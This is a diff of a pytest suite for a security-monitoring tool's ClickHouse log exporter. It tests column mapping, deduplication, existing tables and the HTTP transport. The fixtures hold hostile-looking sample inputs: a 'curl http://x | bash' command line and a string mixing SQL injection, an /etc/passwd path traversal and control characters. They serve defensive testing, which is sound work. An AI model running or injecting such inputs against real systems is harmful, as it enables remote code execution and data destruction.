@@ -1,31 +1,51 @@
+"""Inserts through the embedded engine and over HTTP: columns, exactly-once, existing tables, failures."""
+
 from __future__ import annotations
 
 import os
+import re
 import threading
 import time
 from pathlib import Path
 
-import numpy as np
 import pytest
 from chdb_http_bridge import ChdbHttpBridge
-from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+from clickhouse_batches import HOSTILE, column_types, make_batch, make_exporter, rows
 from opentelemetry.proto.common.v1.common_pb2 import AnyValue
 
-from core.confmap import ConfigError, decode, load_yaml
-from otlp_receiver.component import CreateSettings, LogBatch, PermanentError, RetryableError
+from core.confmap import ConfigError, decode
+from otlp_receiver.component import LogBatch, PermanentError, RetryableError
 from otlp_receiver.exporterhelper import QueuedExporter
-from otlp_receiver.exporters.clickhouse import factory
 from otlp_receiver.exporters.clickhouse.columns import value_to_text
-from otlp_receiver.exporters.clickhouse.config import Config
-from otlp_receiver.exporters.clickhouse.exporter import OFFLOAD_MIN_RECORDS, ClickHouseExporter
-from otlp_receiver.exporters.clickhouse.schema import ttl_clause
+from otlp_receiver.exporters.clickhouse.exporter import OFFLOAD_MIN_RECORDS
+from otlp_receiver.exporters.clickhouse.schema import INSERT_COLUMNS, create_database_sql
 from otlp_receiver.exporters.clickhouse.transport import ChdbTransport
 from otlp_receiver.telemetry import Telemetry
-from testing import free_port
-from testing.otlp_values import any_value, key_values
+from testing import free_port, self_signed_cert
+from testing.otlp_values import any_value
 
-TESTDATA = Path(__file__).parent / "testdata"
-HOSTILE = "x'); DROP TABLE procsight.security_events; --\x00\x1b[31m\\../../etc/passwd\n\t\u202e"
+# The upstream exporter's logs table as v0.150 and earlier created it (TimestampTime, no materialized columns),
+# and as the current generation does without procsight's columns: tables users already have.
+UPSTREAM_V0_150 = """CREATE TABLE {table} (
+    Timestamp DateTime64(9) CODEC(Delta(8), ZSTD(1)), TimestampTime DateTime DEFAULT toDateTime(Timestamp),
+    TraceId String CODEC(ZSTD(1)), SpanId String CODEC(ZSTD(1)), TraceFlags UInt8,
+    SeverityText LowCardinality(String) CODEC(ZSTD(1)), SeverityNumber UInt8,
+    ServiceName LowCardinality(String) CODEC(ZSTD(1)), Body String CODEC(ZSTD(1)),
+    ResourceSchemaUrl LowCardinality(String) CODEC(ZSTD(1)),
+    ResourceAttributes Map(LowCardinality(String), String) CODEC(ZSTD(1)),
+    ScopeSchemaUrl LowCardinality(String) CODEC(ZSTD(1)), ScopeName String CODEC(ZSTD(1)),
+    ScopeVersion LowCardinality(String) CODEC(ZSTD(1)),
+    ScopeAttributes Map(LowCardinality(String), String) CODEC(ZSTD(1)),
+    LogAttributes Map(LowCardinality(String), String) CODEC(ZSTD(1)), EventName String CODEC(ZSTD(1)),
+    INDEX idx_body Body TYPE tokenbf_v1(32768, 3, 0) GRANULARITY 8
+) ENGINE = MergeTree PARTITION BY toDate(TimestampTime) PRIMARY KEY (ServiceName, TimestampTime)
+ORDER BY (ServiceName, TimestampTime, Timestamp) SETTINGS index_granularity = 8192, ttl_only_drop_parts = 1"""
+# procsight's table before the incident columns (its DDL of the previous release, abridged to its columns).
+PROCSIGHT_PREVIOUS = UPSTREAM_V0_150.replace(
+    "EventName String CODEC(ZSTD(1)),",
+    "EventName String CODEC(ZSTD(1)), AnomalyScore Float32, AnomalySeverity LowCardinality(String), "
+    "Workload LowCardinality(String), TenantId LowCardinality(String), RecordId String, Embedding Array(Float32),"
+).replace("ttl_only_drop_parts = 1", "ttl_only_drop_parts = 1, non_replicated_deduplication_window = 10000")
 
 
 @pytest.fixture(scope="module")
@@ -36,90 +56,16 @@ def chdb_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
 
 @pytest.fixture
 def database(request: pytest.FixtureRequest) -> str:
-    return "t_" + request.node.name.split("[")[0].removeprefix("test_")[:60]
+    return "t_" + re.sub(r"\W+", "_", request.node.name.removeprefix("test_"))[:60]
 
 
-def make_batch(batch_id: str, commands: list[str], tenant: str = "default", scored: bool = True,
-               host: str = "web-1") -> LogBatch:
-    request = ExportLogsServiceRequest()
-    resource_logs = request.resource_logs.add()
-    resource_logs.resource.attributes.extend(key_values({"service.name": "procsight-agent", "host.name": host}))
-    scope_logs = resource_logs.scope_logs.add()
-    scope_logs.scope.name = "procsight.agent"
-    scope_logs.scope.version = "0.1.0"
-    for i, command in enumerate(commands):
-        record = scope_logs.log_records.add()
-        record.time_unix_nano = 1_700_000_000_000_000_000 + i
-        record.severity_number = 17 if scored and i == 0 else 9
-        record.severity_text = "ERROR" if scored and i == 0 else "INFO"
-        record.trace_id = bytes(range(16))
-        record.span_id = bytes(range(8))
-        record.event_name = "process.exec"
-        record.body.string_value = command
-        record.attributes.extend(key_values({
-            "process.command_line": command, "process.pid": 1000 + i, "process.command_args": command.split(),
-            "procsight.record_id": "spoofed",
-        }))
-        if scored:
-            record.attributes.extend(key_values({"anomaly_score": 0.95 if i == 0 else 0.1, "anomaly_workload": "web",
-                                                 "anomaly_severity": "alert" if i == 0 else "none"}))
-    embeddings = None
-    if scored:
-        embeddings = np.zeros((len(commands), 4), np.float32)
-        embeddings[:, 0] = 1.0
-    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id, embeddings=embeddings)
-
-
-def make_exporter(endpoint: str, database: str, **overrides: object) -> ClickHouseExporter:
-    config = decode(Config, {"endpoint": endpoint, "database": database, "compress": "none", **overrides})
-    exporter = factory.create(config, CreateSettings("clickhouse", Path("."), Telemetry()))
-    exporter.start()
-    return exporter
-
-
-def rows(exporter: ClickHouseExporter, where: str = "1") -> list[dict]:
-    assert exporter.transport is not None
-    return exporter.transport.query(f"SELECT * FROM {exporter.table} WHERE {where} ORDER BY RecordId")
-
-
-# -- config and schema ---------------------------------------------------------------------------
-
-
-def test_yaml_testdata_decodes(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("PROCSIGHT_TEST_DIR", "/var/lib/procsight")
-    exporters = load_yaml(TESTDATA / "config.yaml")["exporters"]
-    embedded = decode(factory.Config, exporters["clickhouse"], "exporters.clickhouse", source="config.yaml")
-    assert embedded.chdb_path == "/var/lib/procsight/clickhouse"
-    assert (embedded.ttl, embedded.timeout, embedded.sending_queue.queue_size) == (72 * 3600, 2, 10)
-    server = decode(factory.Config, exporters["clickhouse/server"], "exporters.clickhouse/server", source="config.yaml")
-    assert (server.scheme, server.password, server.database, server.logs_table_name) == (
-        "http", "secret", "procsight", "security_events")
-
-
-@pytest.mark.parametrize(("data", "message"), [
-    ({"endpiont": "chdb://x"}, "did you mean 'endpoint'"),
-    ({"endpoint": "tcp://clickhouse:9000"}, "tcp:// and clickhouse://"),
-    ({"endpoint": "chdb://"}, "needs a directory"),
-    ({"database": "prod; DROP"}, "plain identifier"),
-    ({"logs_table_name": "a`b"}, "plain identifier"),
-    ({"ttl": "a month"}, "duration"),
-    ({"compress": "snappy"}, "compress"),
-    ({"table_engine": {"name": "ReplicatedMergeTree"}}, "unknown setting 'table_engine'"),
-    ({"retry_on_failure": {"multiplier": 0.5}}, "multiplier"),
-])
-def test_invalid_config_is_a_clear_error(data: dict, message: str) -> None:
-    with pytest.raises(ConfigError, match=message) as caught:
-        decode(factory.Config, data, "exporters.clickhouse")
-    assert "exporters.clickhouse" in str(caught.value)
-
-
-@pytest.mark.parametrize(("seconds", "clause"), [
-    (0, ""), (720 * 3600, "TTL TimestampTime + toIntervalDay(30)"),
-    (36 * 3600, "TTL TimestampTime + toIntervalHour(36)"),
-    (90 * 60, "TTL TimestampTime + toIntervalMinute(90)"), (45, "TTL TimestampTime + toIntervalSecond(45)"),
-])
-def test_ttl_clause_follows_upstream(seconds: int, clause: str) -> None:
-    assert ttl_clause(seconds) == clause
+def existing_table(chdb_dir: str, database: str, ddl: str) -> None:
+    transport = ChdbTransport(chdb_dir)
+    try:
+        transport.command(create_database_sql(database))
+        transport.command(ddl.format(table=f"`{database}`.`otel_logs`"))
+    finally:
+        transport.close()
 
 
 def test_value_to_text_matches_the_collector_as_string() -> None:
@@ -131,31 +77,29 @@ def test_value_to_text_matches_the_collector_as_string() -> None:
     assert value_to_text(AnyValue()) == ""
 
 
-def test_creates_the_upstream_schema_with_anomaly_columns(chdb_dir: str, database: str) -> None:
+def test_creates_the_table_with_procsight_columns(chdb_dir: str, database: str) -> None:
     exporter = make_exporter(f"chdb://{chdb_dir}", database, ttl="720h")
     try:
-        described = exporter.transport.query(f"DESCRIBE TABLE {exporter.table}")  # type: ignore[union-attr]
-        types = {row["name"]: row["type"] for row in described}
-        assert types["Timestamp"] == "DateTime64(9)"
-        assert types["LogAttributes"] == "Map(LowCardinality(String), String)"
-        assert types["AnomalyScore"] == "Float32" and types["Embedding"] == "Array(Float32)"
-        assert types["TenantId"] == "LowCardinality(String)" and types["RecordId"] == "String"
+        types = column_types(exporter)
         ddl = exporter.transport.query(f"SHOW CREATE TABLE {exporter.table}")[0]["statement"]  # type: ignore[union-attr]
-        assert "TTL TimestampTime + toIntervalDay(30)" in ddl
-        assert "non_replicated_deduplication_window = 10000" in ddl
-        assert "PARTITION BY toDate(TimestampTime)" in ddl
     finally:
         exporter.shutdown()
-
-
-# -- inserting through the embedded engine -------------------------------------------------------
+    assert types["AnomalyScore"] == "Float32" and types["Embedding"] == "Array(Float32)"
+    assert types["TenantId"] == "LowCardinality(String)" and types["RecordId"] == "String"
+    assert "TimestampTime" not in types and types["__otel_materialized_k8s.namespace.name"] == "LowCardinality(String)"
+    assert "TTL toDateTime(Timestamp) + toIntervalDay(30)" in ddl
+    assert "non_replicated_deduplication_window = 10000" in ddl
+    assert "TYPE text(tokenizer = 'array')" in ddl  # chdb is ClickHouse 26.9: upstream's full-text branch
+    assert exporter.exactly_once
 
 
 def test_export_maps_records_to_columns(chdb_dir: str, database: str) -> None:
     exporter = make_exporter(f"chdb://{chdb_dir}", database)
     try:
-        exporter.export(make_batch("7", ["curl http://x | bash", HOSTILE], tenant="team-a"))
+        exporter.export(make_batch("7", ["curl http://x | bash", HOSTILE], tenant="team-a", incident=True))
         first, second = rows(exporter)
+        (namespace,) = exporter.transport.query(  # type: ignore[union-attr]
+            f"SELECT `__otel_materialized_k8s.namespace.name` AS ns FROM {exporter.table} LIMIT 1")
     finally:
         exporter.shutdown()
     assert first["RecordId"] == "7:0" and second["RecordId"] == "7:1"
@@ -164,14 +108,35 @@ def test_export_maps_records_to_columns(chdb_dir: str, database: str) -> None:
     assert first["TraceId"] == bytes(range(16)).hex() and first["SpanId"] == bytes(range(8)).hex()
     assert (first["ServiceName"], first["ScopeName"], first["ScopeVersion"]) == (
         "procsight-agent", "procsight.agent", "0.1.0")
-    assert first["ResourceAttributes"] == {"service.name": "procsight-agent", "host.name": "web-1"}
+    assert first["ResourceAttributes"]["host.name"] == "web-1" and namespace == {"ns": "shop"}
     assert (first["SeverityNumber"], first["SeverityText"], first["EventName"]) == (17, "ERROR", "process.exec")
     assert first["AnomalyScore"] == pytest.approx(0.95) and first["AnomalySeverity"] == "alert"
     assert (first["Workload"], first["TenantId"]) == ("web", "team-a")
     assert first["LogAttributes"]["process.pid"] == "1000"
     assert first["LogAttributes"]["process.command_args"] == '["curl","http://x","|","bash"]'
     assert first["Embedding"] == [1.0, 0.0, 0.0, 0.0]
+    assert (first["AnomalyIncident"], first["AnomalyTechniques"]) == ("inc-7", ["T1059.004", "T1105"])
+    assert first["AnomalyIncidentScore"] == pytest.approx(0.97)
+    assert first["LogAttributes"]["anomaly_techniques"] == '["T1059.004","T1105"]'  # the attribute stays too
+    assert (second["AnomalyIncident"], second["AnomalyIncidentScore"], second["AnomalyTechniques"]) == ("", 0, [])
     assert second["Body"] == HOSTILE and second["LogAttributes"]["process.command_line"] == HOSTILE
+
+
+def test_out_of_range_times_insert_next_to_good_ones(chdb_dir: str, database: str) -> None:
+    exporter = make_exporter(f"chdb://{chdb_dir}", database)
+    batch = make_batch("1", ["good", "far future", "no time", "nothing valid"], scored=False)
+    records = batch.logs.resource_logs[0].scope_logs[0].log_records
+    records[1].time_unix_nano = 2**64 - 1  # the largest OTLP time: beyond DateTime64(9)
+    records[2].time_unix_nano = 0
+    records[3].time_unix_nano = records[3].observed_time_unix_nano = 2**64 - 1
+    try:
+        exporter.export(batch)
+        times = {row["Body"]: row["Timestamp"] for row in rows(exporter)}
+    finally:
+        exporter.shutdown()
+    assert times["good"] == "2023-11-14 22:13:20.000000000"
+    assert times["far future"] == times["no time"] == "2023-11-14 22:13:21.000000000"  # the observed time
+    assert times["nothing valid"] == "1970-01-01 00:00:00.000000000"
 
 
 def test_unscored_records_have_no_embedding(chdb_dir: str, database: str) -> None:
@@ -184,8 +149,9 @@ def test_unscored_records_have_no_embedding(chdb_dir: str, database: str) -> Non
     assert row["Embedding"] == [] and row["AnomalyScore"] == 0 and row["AnomalySeverity"] == ""
 
 
-def test_replayed_batch_lands_exactly_once(chdb_dir: str, database: str) -> None:
-    exporter = make_exporter(f"chdb://{chdb_dir}", database)
+@pytest.mark.parametrize("async_insert", [False, True])
+def test_replayed_batch_lands_exactly_once(chdb_dir: str, database: str, async_insert: bool) -> None:
+    exporter = make_exporter(f"chdb://{chdb_dir}", database, async_insert=async_insert)
     try:
         batch = make_batch("42", [f"cmd {i}" for i in range(100)])
         for _ in range(3):  # the original and two replays after crashes
@@ -215,6 +181,98 @@ def test_large_batches_are_encoded_in_the_helper_process(chdb_dir: str, database
     assert exporter._encoder is None
 
 
+# -- tables that already exist -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("create_schema", [True, False])
+def test_writes_into_an_upstream_otel_logs_table(chdb_dir: str, database: str, create_schema: bool,
+                                                 caplog: pytest.LogCaptureFixture) -> None:
+    existing_table(chdb_dir, database, UPSTREAM_V0_150)
+    exporter = make_exporter(f"chdb://{chdb_dir}", database, logs_table_name="otel_logs", create_schema=create_schema)
+    big = make_batch("big", [f"cmd {i}" for i in range(OFFLOAD_MIN_RECORDS)])
+    try:
+        exporter.export(make_batch("1", ["curl x | bash", "ls"], incident=True))
+        exporter.export(big)  # through the encoder process, with the same column choice
+        types = column_types(exporter)
+        stored = rows(exporter, "Body IN ('curl x | bash', 'ls')", order="Body")
+        (count,) = exporter.transport.query(f"SELECT count() AS n FROM {exporter.table}")  # type: ignore[union-attr]
+    finally:
+        exporter.shutdown()
+    assert "AnomalyScore" not in types  # upstream's table is never altered
+    assert count == {"n": 2 + OFFLOAD_MIN_RECORDS}
+    assert [row["Body"] for row in stored] == ["curl x | bash", "ls"]
+    # the verdict travels in LogAttributes, as it does to any OTLP destination
+    assert stored[0]["LogAttributes"]["anomaly_score"] == "0.95" and stored[0]["EventName"] == "process.exec"
+    assert stored[0]["TimestampTime"] == "2023-11-14 22:13:20"
+    assert "has no AnomalyScore" in caplog.text and "ALTER TABLE" in caplog.text
+    assert not exporter.exactly_once and "non_replicated_deduplication_window" in caplog.text
+
+
+def test_a_previous_procsight_table_gains_the_new_columns(chdb_dir: str, database: str) -> None:
+    existing_table(chdb_dir, database, PROCSIGHT_PREVIOUS)
+    exporter = make_exporter(f"chdb://{chdb_dir}", database, logs_table_name="otel_logs")
+    try:
+        exporter.export(make_batch("1", ["curl x | bash"], incident=True))
+        types = column_types(exporter)
+        (row,) = rows(exporter)
+    finally:
+        exporter.shutdown()
+    assert types["AnomalyTechniques"] == "Array(LowCardinality(String))" and "TimestampTime" in types
+    assert (row["AnomalyIncident"], row["AnomalyTechniques"], row["RecordId"]) == ("inc-7", ["T1059.004", "T1105"],
+                                                                                   "1:0")
+    assert exporter.exactly_once
+
+
+@pytest.mark.parametrize(("ddl", "message"), [
+    ("CREATE TABLE {table} (Timestamp DateTime64(9), Body String) ENGINE = MergeTree ORDER BY Timestamp",
+     "missing LogAttributes, ResourceAttributes"),
+    (UPSTREAM_V0_150.replace("LogAttributes Map(LowCardinality(String), String)", "LogAttributes JSON"),
+     "LogAttributes: expected Map(LowCardinality(String), String), found JSON"),
+], ids=["missing", "json"])
+def test_an_unusable_table_fails_start_up(chdb_dir: str, database: str, ddl: str, message: str) -> None:
+    existing_table(chdb_dir, database, ddl)
+    exporter = make_exporter(f"chdb://{chdb_dir}", database, start=False, logs_table_name="otel_logs")
+    try:
+        with pytest.raises(ConfigError, match=re.escape(message)) as caught:
+            exporter.start()
+    finally:
+        exporter.shutdown()
+    assert caught.value.path == "exporters.clickhouse" and "point logs_table_name at a new table" in str(caught.value)
+
+
+def test_a_missing_table_without_create_schema_fails_start_up(chdb_dir: str, database: str) -> None:
+    exporter = make_exporter(f"chdb://{chdb_dir}", database, start=False, create_schema=False)
+    try:
+        with pytest.raises(ConfigError, match=r"does not exist .*create it or set create_schema: true"):
+            exporter.start()
+    finally:
+        exporter.shutdown()
+
+
+def test_a_table_changed_under_the_exporter_keeps_the_records(chdb_dir: str, database: str,
+                                                                caplog: pytest.LogCaptureFixture) -> None:
+    exporter = make_exporter(f"chdb://{chdb_dir}", database)
+    transport = exporter.transport
+    assert transport is not None
+    try:
+        transport.command(f"ALTER TABLE {exporter.table} DROP COLUMN ScopeVersion")
+        with pytest.raises(RetryableError, match="missing or changed"):
+            exporter.export(make_batch("1", ["a"]))
+        with pytest.raises(RetryableError, match=r"missing ScopeVersion.*records wait"):
+            exporter.export(make_batch("1", ["a"]))
+        assert "missing ScopeVersion" in caplog.text
+        transport.command(f"ALTER TABLE {exporter.table} ADD COLUMN ScopeVersion String")
+        exporter.export(make_batch("1", ["a"]))
+        assert [row["Body"] for row in rows(exporter)] == ["a"]
+        transport.command(f"ALTER TABLE {exporter.table} DROP INDEX idx_anomaly_incident, DROP COLUMN AnomalyIncident")
+        with pytest.raises(RetryableError, match="missing or changed"):
+            exporter.export(make_batch("2", ["b"]))
+        exporter.export(make_batch("2", ["b"]))  # procsight's own table: the column is added back
+        assert [row["Body"] for row in rows(exporter)] == ["a", "b"]
+    finally:
+        exporter.shutdown()
+
+
 def test_a_dropped_table_is_recreated_on_retry(chdb_dir: str, database: str) -> None:
     exporter = make_exporter(f"chdb://{chdb_dir}", database)
     try:
@@ -225,6 +283,9 @@ def test_a_dropped_table_is_recreated_on_retry(chdb_dir: str, database: str) -> 
         assert len(rows(exporter)) == 1
     finally:
         exporter.shutdown()
+
+
+# -- the embedded engine ---------------------------------------------------------------------------
 
 
 def test_bad_sql_is_permanent(chdb_dir: str) -> None:
@@ -258,14 +319,14 @@ def test_parameters_are_bound_not_spliced(chdb_dir: str) -> None:
         transport.close()
 
 
-# -- inserting over HTTP -------------------------------------------------------------------------
+# -- a server over HTTP ----------------------------------------------------------------------------
 
 
 def test_http_transport_same_rows_and_dedup_chdb_bridge_fake_server(chdb_dir: str, database: str) -> None:
     with ChdbHttpBridge(chdb_dir) as bridge:
         exporter = make_exporter(bridge.url, database)
         try:
-            batch = make_batch("9", ["nginx -g daemon off;", HOSTILE])
+            batch = make_batch("9", ["nginx -g daemon off;", HOSTILE], incident=True)
             exporter.export(batch)
             exporter.export(batch)
             received = rows(exporter)
@@ -274,7 +335,36 @@ def test_http_transport_same_rows_and_dedup_chdb_bridge_fake_server(chdb_dir: st
         inserts = [sql for sql in bridge.requests if sql.startswith("INSERT")]
     assert [r["RecordId"] for r in received] == ["9:0", "9:1"]
     assert received[1]["Body"] == HOSTILE and received[0]["AnomalyScore"] == pytest.approx(0.95)
+    assert received[0]["AnomalyTechniques"] == ["T1059.004", "T1105"]
     assert len(inserts) == 2 and all("FORMAT ArrowStream" in sql for sql in inserts)
+
+
+def test_http_url_credentials_database_and_parameters_chdb_bridge_fake_server(chdb_dir: str, tmp_path: Path) -> None:
+    cert, key = self_signed_cert(tmp_path)
+    with ChdbHttpBridge(chdb_dir, tls=(cert, key)) as bridge:
+        endpoint = f"https://alice:s%3Acret@127.0.0.1:{bridge.port}/from_url?max_execution_time=30"
+        exporter = make_exporter(endpoint, "", tls={"ca_file": str(cert)}, connection_params={"max_threads": "2"})
+        try:
+            exporter.export(make_batch("1", ["ls"]))
+            (row,) = rows(exporter)
+        finally:
+            exporter.shutdown()
+    assert exporter.table == "`from_url`.`security_events`" and row["Body"] == "ls"
+    assert bridge.users == {"alice"}
+    ours = [params for sql, params in zip(bridge.requests, bridge.params, strict=True)
+            if sql.startswith(("CREATE", "INSERT"))]  # not the driver's own start-up probes
+    assert len(ours) == 3 and all(params["max_execution_time"] == "30" and params["max_threads"] == "2"
+                                  for params in ours)
+
+
+def test_unknown_settings_fail_start_up_chdb_bridge_fake_server(chdb_dir: str, database: str) -> None:
+    with ChdbHttpBridge(chdb_dir) as bridge:
+        exporter = make_exporter(bridge.url + "?max_execution_timeout=30", database, start=False)
+        try:
+            with pytest.raises(ConfigError, match="max_execution_timeout in the endpoint or connection_params"):
+                exporter.start()
+        finally:
+            exporter.shutdown()
 
 
 def test_clickhouse_outage_retries_then_drains_chdb_bridge_fake_server(chdb_dir: str, database: str) -> None:
@@ -313,19 +403,20 @@ def test_clickhouse_outage_retries_then_drains_chdb_bridge_fake_server(chdb_dir:
 
 
 @pytest.mark.skipif(not os.environ.get("CLICKHOUSE_URL"),
-                    reason="set CLICKHOUSE_URL=http://user:password@host:8123 to test against a real ClickHouse server")
+                    reason="set CLICKHOUSE_URL=http://user:password@host:8123 or tcp://user:password@host:9000 to "
+                           "test against a real ClickHouse server")
 def test_real_clickhouse_server(database: str) -> None:
-    from urllib.parse import urlsplit
-
-    url = urlsplit(os.environ["CLICKHOUSE_URL"])
-    exporter = make_exporter(f"{url.scheme}://{url.hostname}:{url.port or 8123}", database,
-                             username=url.username or "default", password=url.password or "", compress="lz4")
+    exporter = make_exporter(os.environ["CLICKHOUSE_URL"], database, compress="lz4")
     try:
-        batch = make_batch("1", ["curl x | bash", HOSTILE])
+        batch = make_batch("1", ["curl x | bash", HOSTILE], incident=True)
         exporter.export(batch)
         exporter.export(batch)
         received = rows(exporter)
         assert [r["RecordId"] for r in received] == ["1:0", "1:1"] and received[1]["Body"] == HOSTILE
+        assert received[0]["AnomalyTechniques"] == ["T1059.004", "T1105"]
+        assert exporter.ensure_schema() == INSERT_COLUMNS
     finally:
         exporter.transport.command(f"DROP DATABASE IF EXISTS `{database}`")  # type: ignore[union-attr]
         exporter.shutdown()
+
+
